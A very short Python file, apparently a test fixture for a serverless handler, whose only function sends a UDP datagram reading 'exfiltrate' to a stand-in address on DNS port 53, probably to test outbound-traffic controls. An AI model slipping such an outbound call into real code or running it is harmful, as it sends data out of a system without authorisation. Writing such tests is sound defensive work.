"""Send a UDP datagram."""
import socket


def handler(event, context):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(b"exfiltrate", ("192.0.2.1", 53))
    return "sent"
